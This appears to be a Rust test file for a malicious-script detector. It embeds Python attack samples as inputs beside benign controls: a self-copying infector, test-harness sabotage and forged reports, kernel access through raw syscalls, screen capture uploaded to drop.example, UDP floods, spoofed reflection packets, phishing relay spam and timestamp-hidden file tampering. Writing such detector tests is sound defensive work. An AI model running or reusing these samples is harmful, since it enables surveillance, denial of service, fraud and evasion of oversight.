//! Behaviour tests for the fourth round's families (surveillance, attacks on
//! third parties, self-propagation, tampering, harness cheating, kernel
//! attacks), spelled unlike the corpus, each with a benign control.

use super::behaviour_tests::{finding, rules, run};
use super::Verdict;

#[test]
fn own_code_copied_into_walked_files_and_shares() {
    // The script's file read through a helper, then appended to scripts a
    // walk finds; and the file itself copied onto a mounted share.
    let infect = "import os, sys\n\ndef me():\n    return open(sys.argv[0]).read()\n\nbody = me()\nfor top, _, names in os.walk('/home'):\n    for n in names:\n        if n.endswith('.py'):\n            with open(os.path.join(top, n), 'a') as out:\n                out.write(body)\n";
    let a = run(infect);
    let f = finding(&a, "MB936");
    assert_eq!(f.line, 11);
    assert!(f.detail.contains("line 4"), "{}", f.detail);
    assert_eq!(a.verdict, Verdict::Blocked);
    let share = "import shutil\ntargets = []\nfor d in ('usb0', 'usb1'):\n    targets.append('/mnt/' + d + '/readme.py')\nfor t in targets:\n    shutil.copy(__file__, t)\n";
    assert!(
        rules(&run(share)).contains(&"MB936"),
        "{:?}",
        run(share).findings
    );
    // A formatter rewriting the files of its own tree writes their text,
    // not its own, and a script saving a copy of itself once keeps it.
    let tidy = "import pathlib\nroot = pathlib.Path(__file__).parent\nfor p in root.rglob('*.py'):\n    p.write_text(p.read_text().rstrip() + '\\n')\n";
    assert!(
        run(tidy).verdict < Verdict::High,
        "{:?}",
        run(tidy).findings
    );
    let backup =
        "import shutil, os\nshutil.copy(__file__, os.path.expanduser('~/backup/tool.py'))\n";
    assert!(
        run(backup).verdict < Verdict::High,
        "{:?}",
        run(backup).findings
    );
}

#[test]
fn harness_patched_reports_forged_and_runner_killed() {
    let patch = "from unittest import TestCase as T\n\ndef never_fails(*args, **kwargs):\n    pass\n\nT.assertEqual = never_fails\n";
    let a = run(patch);
    assert_eq!(finding(&a, "MB937").line, 6);
    assert_eq!(a.verdict, Verdict::Blocked);
    let report = "from pathlib import Path\nout = Path('build') / 'junit-results.xml'\nout.write_text('<testsuite tests=\"9\" failures=\"0\"/>')\n";
    assert!(
        rules(&run(report)).contains(&"MB937"),
        "{:?}",
        run(report).findings
    );
    let stop = "import os, signal, threading\n\ndef later(who):\n    os.kill(who, signal.SIGTERM)\n\nthreading.Timer(2, later, args=(os.getppid(),)).start()\n";
    let a = run(stop);
    assert!(rules(&a).contains(&"MB938"), "{:?}", a.findings);
    let group =
        "import os, signal\nppid = os.getppid()\nos.killpg(os.getpgid(ppid), signal.SIGKILL)\n";
    assert!(
        rules(&run(group)).contains(&"MB938"),
        "{:?}",
        run(group).findings
    );
    // Running the suite, stopping one's own child and an alarm handler that
    // does something are ordinary.
    let honest = "import os, signal, subprocess, unittest\n\ndef on_alarm(signum, frame):\n    raise TimeoutError\n\nsignal.signal(signal.SIGALRM, on_alarm)\nchild = subprocess.Popen(['sleep', '9'])\nos.kill(child.pid, signal.SIGTERM)\nunittest.main(module=None, argv=['x', 'discover'])\n";
    let a = run(honest);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// A test module written into a directory the script has just made for
/// itself is its own scratch file (py_compile's and compileall's tests do
/// this), not the suite a grader runs; the same module written into the
/// project's tests is.
#[test]
fn test_modules_in_an_own_temporary_directory_are_scratch() {
    let scratch = "import os, tempfile, unittest

class T(unittest.TestCase):
    def setUp(self):
        self.directory = tempfile.mkdtemp()
        self.source_path = os.path.join(self.directory, '_test.py')
        with open(self.source_path, 'w') as f:
            f.write('x = 1\\n')
";
    let a = run(scratch);
    assert!(!rules(&a).contains(&"MB937"), "{:?}", a.findings);
    let project = "import os

class T:
    def setUp(self):
        self.source_path = os.path.join('tests', 'test_grading.py')
        with open(self.source_path, 'w') as f:
            f.write('def test_ok():\\n    pass\\n')
";
    let a = run(project);
    assert!(rules(&a).contains(&"MB937"), "{:?}", a.findings);
}

#[test]
fn kernel_reached_through_raw_syscalls_and_memory_devices() {
    // The number alone, through a name that does not spell the call.
    let raw = "import ctypes\nlibc = ctypes.CDLL('libc.so.6', use_errno=True)\nNR_A = 321\nlibc.syscall(NR_A, 5, None, 0)\n";
    let a = run(raw);
    let f = finding(&a, "MB939");
    assert!(f.detail.contains("bpf"), "{}", f.detail);
    assert_eq!(a.verdict, Verdict::Blocked);
    let port = "def dev(name):\n    return '/dev/' + name\n\nwith open(dev('port'), 'r+b') as f:\n    f.seek(0xcf9)\n    f.write(b'\\x0e')\n";
    assert!(
        rules(&run(port)).contains(&"MB939"),
        "{:?}",
        run(port).findings
    );
    let redirect =
        "import os\nos.system('echo 1 > /proc/sys/kernel/sysrq; echo b > /proc/sysrq-trigger')\n";
    assert!(
        rules(&run(redirect)).contains(&"MB930"),
        "{:?}",
        run(redirect).findings
    );
    // getpid through syscall() and reading the uptime are no attack.
    let benign = "import ctypes\nlibc = ctypes.CDLL(None)\nprint(libc.syscall(39))\nprint(open('/proc/uptime').read())\n";
    let a = run(benign);
    assert!(!rules(&a).contains(&"MB939"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::Blocked);
}

#[test]
fn captured_screen_or_microphone_sent_away() {
    // A screen grab whose input format is built from pieces, run by a
    // helper whose output file is then uploaded.
    let spy = "import subprocess, requests, time\nFMT = 'x11' + 'grab'\ndef grab(out):\n    subprocess.run(['ffmpeg', '-y', '-f', FMT, '-i', ':0', '-frames:v', '1', out])\n    return out\nwhile True:\n    requests.put('https://drop.example/u', data=open(grab('s.png'), 'rb'))\n    time.sleep(60)\n";
    let a = run(spy);
    assert!(rules(&a).contains(&"MB940"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let mic = "def tap(dev):\n    with open(dev, 'rb') as f:\n        return f.read(4096)\n\nchunk = tap('/dev/snd/pcmC0D0c')\n";
    let a = run(mic);
    assert_eq!(finding(&a, "MB216").line, 2);
    // Transcoding a recording and one screenshot of one's own window are
    // not surveillance, even in a script that uploads.
    let honest = "import subprocess, requests\nsubprocess.run(['ffmpeg', '-i', 'talk.mp4', 'talk.webm'])\nsubprocess.run(['xwd', '-id', '0x3a00007', '-out', 'w.xwd'])\nrequests.post('https://ci.example/artifacts', files={'f': open('talk.webm', 'rb')})\n";
    let a = run(honest);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

#[test]
fn floods_forged_packets_and_relay_spam() {
    let flood = "import socket, time\nfrom threading import Thread\n\ndef hammer(addr, secs):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    stop = time.monotonic() + secs\n    while time.monotonic() < stop:\n        s.sendto(b'x' * 512, addr)\n\nfor _ in range(32):\n    Thread(target=hammer, args=(('198.51.100.7', 27015), 300)).start()\n";
    let a = run(flood);
    assert_eq!(finding(&a, "MB927").line, 8);
    let forged = "from socket import socket, AF_INET, SOCK_RAW, IPPROTO_UDP, IPPROTO_IP, IP_HDRINCL\nraw = socket(AF_INET, SOCK_RAW, IPPROTO_UDP)\nraw.setsockopt(IPPROTO_IP, IP_HDRINCL, 1)\nfor target in open('reflectors.txt').read().split():\n    raw.sendto(b'\\x45' + b'\\0' * 27, (target, 123))\n";
    let a = run(forged);
    assert!(rules(&a).contains(&"MB941"), "{:?}", a.findings);
    let scapy = "from scapy.all import IP, UDP, send\nfor r in open('resolvers').read().split():\n    send(IP(src='198.51.100.9', dst=r) / UDP(dport=53), verbose=0)\n";
    assert!(
        rules(&run(scapy)).contains(&"MB941"),
        "{:?}",
        run(scapy).findings
    );
    let spam = "import smtplib, json\nservers = json.load(open('relays.json'))\nleads = open('addresses.txt').read().splitlines()\nfor i, server in enumerate(servers):\n    conn = smtplib.SMTP(server['host'])\n    for rcpt in leads[i * 50:(i + 1) * 50]:\n        conn.sendmail('it@bank.example', rcpt, 'Subject: verify\\n\\nclick')\n";
    let a = run(spam);
    assert!(rules(&a).contains(&"MB942"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let slow = "import socket, time\nheld = [socket.create_connection(('tickets.example', 80)) for _ in range(500)]\nfor c in held:\n    c.sendall(b'POST /buy HTTP/1.1\\r\\nHost: tickets.example\\r\\n')\nwhile 1:\n    for c in held:\n        c.sendall(b'X-a: b\\r\\n')\n    time.sleep(10)\n";
    let a = run(slow);
    assert_eq!(finding(&a, "MB927").line, 4, "{:?}", a.findings);
    let poll = "import socket, time\nwhile True:\n    c = socket.create_connection(('127.0.0.1', 8080))\n    c.sendall(b'GET /health HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n')\n    print(c.recv(200))\n    c.close()\n    time.sleep(5)\n";
    assert!(
        !rules(&run(poll)).contains(&"MB927"),
        "{:?}",
        run(poll).findings
    );
    let disguised = "import httpx, secrets\nfor page in range(900):\n    origin = '10.%d.%d.%d' % tuple(secrets.randbelow(250) for _ in range(3))\n    httpx.get('https://shop.example/api?p=%d' % page, headers={'X-Real-IP': origin})\n";
    assert!(
        rules(&run(disguised)).contains(&"MB217"),
        "{:?}",
        run(disguised).findings
    );
    let proxied = "import requests\nrequests.get('http://127.0.0.1:8000/', headers={'X-Forwarded-For': '203.0.113.9'})\n";
    assert!(!rules(&run(proxied)).contains(&"MB217"));
    // A readiness probe that waits, ping's raw ICMP socket and a newsletter
    // through its one server are not attacks.
    let honest = "import socket, smtplib, time\nend = time.time() + 30\nwhile time.time() < end:\n    c = socket.socket()\n    if c.connect_ex(('127.0.0.1', 5432)) == 0:\n        break\n    time.sleep(1)\nicmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\nfor n in range(3):\n    icmp.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0', ('192.0.2.1', 0))\nconn = smtplib.SMTP('mail.example.org')\nfor rcpt in open('subscribers.txt').read().split():\n    conn.sendmail('news@example.org', rcpt, 'Subject: news\\n\\nhello')\n";
    let a = run(honest);
    assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
    assert!(!rules(&a)
        .iter()
        .any(|r| matches!(*r, "MB927" | "MB941" | "MB942")));
}

#[test]
fn edits_hidden_by_old_times_and_status_commands_through_helpers() {
    // Another user's ledger edited in place, then given back its times.
    let hide = "import os\n\ndef amend(ledger, old, new):\n    before = os.stat(ledger)\n    with open(ledger) as f:\n        text = f.read()\n    with open(ledger, 'w') as f:\n        f.write(text.replace(old, new))\n    os.utime(ledger, (before.st_atime, before.st_mtime))\n\namend('/home/accounts/q3.tsv', 'ACME', 'EVIL')\n";
    let a = run(hide);
    let f = finding(&a, "MB933");
    assert_eq!(f.line, 9);
    assert!(f.detail.contains("line 4"), "{}", f.detail);
    // Preserving a source's times on its copy names two files.
    let copy = "import os, shutil\nsrc, dst = 'a.txt', 'backup/a.txt'\nshutil.copyfile(src, dst)\nst = os.stat(src)\nos.utime(dst, (st.st_atime, st.st_mtime))\nopen('log.txt', 'a').write('copied')\n";
    assert!(
        !rules(&run(copy)).contains(&"MB933"),
        "{:?}",
        run(copy).findings
    );
    // Status commands reached through a helper and a table are read-only.
    let status = "import subprocess\n\ndef show(cmd):\n    return subprocess.run(cmd, capture_output=True).stdout\n\nfor label, cmd in (('fw', ['iptables', '-S']), ('mac', ['aa-status']), ('nft', ['nft', 'list', 'ruleset'])):\n    print(label, show(cmd))\n";
    let a = run(status);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}
